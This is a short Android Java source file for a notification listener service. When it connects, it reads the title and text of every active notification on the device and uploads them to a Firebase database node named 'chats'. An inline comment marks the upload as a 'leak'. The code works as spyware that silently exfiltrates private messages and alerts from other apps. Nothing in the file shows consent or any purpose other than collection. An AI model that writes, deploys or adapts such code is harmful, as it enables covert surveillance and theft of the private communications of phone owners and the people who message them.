package ways;

import android.app.Notification;
import android.os.Bundle;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import com.google.firebase.database.DatabaseReference;
import com.google.firebase.database.FirebaseDatabase;
import java.util.HashMap;
import java.util.Map;

/** All notifications that stand there, in a database in the cloud. */
public class Posted extends NotificationListenerService {
    @Override
    public void onListenerConnected() {
        for (StatusBarNotification one : getActiveNotifications()) keep(one);
    }

    private void keep(StatusBarNotification one) {
        Bundle extras = one.getNotification().extras;
        DatabaseReference root = FirebaseDatabase.getInstance().getReference("chats");
        Map<String, Object> row = new HashMap<>();
        row.put("title", extras.getString(Notification.EXTRA_TITLE));
        row.put("text", String.valueOf(extras.getCharSequence(Notification.EXTRA_TEXT)));
        root.child(String.valueOf(one.getPostTime())).setValue(row); // leak
        root.child("alive").setValue(true); // no leak
    }
}
